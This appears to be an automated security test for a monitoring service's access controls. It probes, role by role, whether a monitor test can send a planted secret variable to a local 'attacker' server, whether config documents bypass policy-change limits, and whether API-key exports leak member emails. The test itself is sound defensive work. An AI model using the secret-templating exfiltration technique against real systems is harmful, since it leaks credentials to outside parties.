import { createTestClient, expectData } from '../../../support/api/client.ts'
import { listen, onRequest } from '../../../support/targets/targets.ts'
import { DATABASES, defineAttack } from '../../attack.ts'
import { type Account, createKey, nextAddress, PASSWORD, signUp } from '../../stage/accounts.ts'
import type { Stage } from '../../stage/stage.ts'

const SECRET = 'planted-secret-of-the-shop'
const ROLES = ['admin', 'editor', 'responder', 'viewer'] as const
const EDITORS: readonly string[] = ['owner', 'admin', 'editor', 'read_write key']
const MANAGERS: readonly string[] = ['owner', 'admin']

type Callers = Record<string, Record<string, string>>

/** @returns the headers of a new session of a member with this role */
async function join(url: string, owner: Account, role: string): Promise<Record<string, string>> {
  const invitations = `/api/organizations/${owner.organizationId}/invitations`
  const { invitation } = await expectData(owner.call('POST', invitations, { email: `${role}@example.test`, role }))
  const token = new URL(invitation.accept_url).searchParams.get('token')
  const acceptance = { token, name: role, password: PASSWORD }
  const call = createTestClient(url, nextAddress())
  const { access_token } = await expectData(call('POST', '/api/auth/invitations/accept', acceptance))
  return { authorization: `Bearer ${access_token}` }
}

const STEPS = [{ after_minutes: 0, targets: ['mail'] }]
const DOCUMENT = {
  version: 1,
  escalation_policy: 'usual',
  notification_targets: { mail: { name: 'Mail', channel: 'email', config: { address: 'ops@example.com' } } },
  escalation_policies: { usual: { name: 'Usual', steps: STEPS }, silent: { name: 'Silent', steps: STEPS } },
  monitors: { job: { name: 'Job', type: 'HEARTBEAT' } },
  on_call_schedules: {
    platform: {
      name: 'Platform',
      timezone: 'UTC',
      layers: [
        {
          name: 'Days',
          users: ['owner@example.test', 'viewer@example.test'],
          rotation: 'daily',
          handover_time: '09:00',
          starts_on: '2026-01-05',
        },
      ],
    },
  },
}

/** Each caller tests a monitor that sends the secret to a server of the attacker. */
async function sendSecrets(stage: Stage, url: string, callers: Callers): Promise<void> {
  const seen: string[] = []
  const site = await listen(
    stage,
    onRequest((socket, head) => {
      seen.push(String(head))
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
    }),
  )
  for (const [who, headers] of Object.entries(callers)) {
    seen.length = 0
    const draft = { type: 'HTTP', target: `${site.url}/`, http_config: { headers: { 'X-V': '{{top_secret}}' } } }
    const { status } = await createTestClient(url, headers)('POST', '/api/monitors/test', draft)
    const hasSecret = seen.some((head) => head.includes(SECRET))
    stage.record(`test by ${who}`, `${status}${hasSecret ? ', secret received' : ''}`)
    stage.expect(hasSecret === EDITORS.includes(who), `a test by ${who}: ${status}, secret received: ${hasSecret}`)
  }
}

/** Each caller applies documents that change the policy of the project, or leave it. */
async function applyDocuments(
  stage: Stage,
  url: string,
  path: string,
  owner: Account,
  callers: Callers,
): Promise<void> {
  for (const [who, headers] of Object.entries(callers)) {
    const call = createTestClient(url, headers)
    const project = await owner.call('GET', path)
    const before = project.body.data.project.escalation_policy_id
    const patched = await call('PATCH', path, { escalation_policy_id: null })
    await expectData(owner.call('PATCH', path, { escalation_policy_id: before }))
    for (const policy of ['silent', null])
      for (const action of ['plan', 'apply']) {
        const document = { ...DOCUMENT, escalation_policy: policy }
        const { status, body } = await call('POST', `${path}/config/${action}`, { document })
        const isAlike = status === patched.status && body.error?.code === patched.body.error?.code
        const answers = `${status} ${body.error?.code ?? ''}, the route ${patched.status} ${patched.body.error?.code ?? ''}`
        stage.expect(isAlike, `${action} of the policy ${policy} by ${who}: ${answers}`)
      }
    const after = (await owner.call('GET', path)).body.data.project.escalation_policy_id
    const mayChange = MANAGERS.includes(who)
    stage.record(`policy by ${who}`, `${patched.status}${after === before ? '' : ', changed'}`)
    stage.expect((after !== before) === mayChange, `${who} ${mayChange ? 'did not change' : 'changed'} the policy`)
    await expectData(owner.call('POST', `${path}/config/apply`, { document: DOCUMENT }))
    const document = { ...DOCUMENT, monitors: { job: { ...DOCUMENT.monitors.job, name: `Job of ${who}` } } }
    const kept = await call('POST', `${path}/config/apply`, { document })
    const isEditor = EDITORS.includes(who)
    stage.expect((kept.status === 200) === isEditor, `${who} applies a document with the same policy: ${kept.status}`)
  }
}

/** Keys may not list the members, so no document shows them an address. */
async function readAddresses(stage: Stage, url: string, path: string, callers: Callers): Promise<void> {
  for (const who of ['read key', 'read_write key']) {
    const call = createTestClient(url, callers[who])
    const { document } = await expectData(call('GET', `${path}/config/export`))
    const users = JSON.stringify(document.on_call_schedules)
    stage.record(`users for a ${who}`, users.includes('@') ? 'addresses' : 'ids')
    stage.expect(!users.includes('@example.test'), `the export for a ${who} contains addresses of members`)
    if (who === 'read key') continue
    const schedules = { version: 1, on_call_schedules: document.on_call_schedules }
    const { plan } = await expectData(call('POST', `${path}/config/plan`, { document: schedules }))
    stage.expect(!plan.has_changes, 'the export of a key changes the project')
  }
}

export const documentsRights = defineAttack({
  name: 'documents-rights',
  title: 'members of every role and API keys with documents and tests of their own',
  bar: 'no test sends a secret for a caller who may not edit, and documents have the limits of other requests',
  databases: DATABASES,
  async run(stage) {
    const { url } = await stage.start()
    const owner = await signUp(url, 'owner')
    const callers: Callers = {
      owner: owner.headers,
      'read key': await createKey(owner, 'read'),
      'read_write key': await createKey(owner, 'read_write'),
    }
    for (const role of ROLES) callers[role] = await join(url, owner, role)
    const { projects } = await expectData(owner.call('GET', '/api/projects'))
    const path = `/api/projects/${projects[0].id}`
    await expectData(owner.call('POST', `${path}/config/apply`, { document: DOCUMENT }))
    const variable = { name: 'top_secret', value: SECRET, is_secret: true }
    await expectData(owner.call('POST', `${path}/variables`, variable))
    await sendSecrets(stage, url, callers)
    await applyDocuments(stage, url, path, owner, callers)
    await readAddresses(stage, url, path, callers)
  },
})
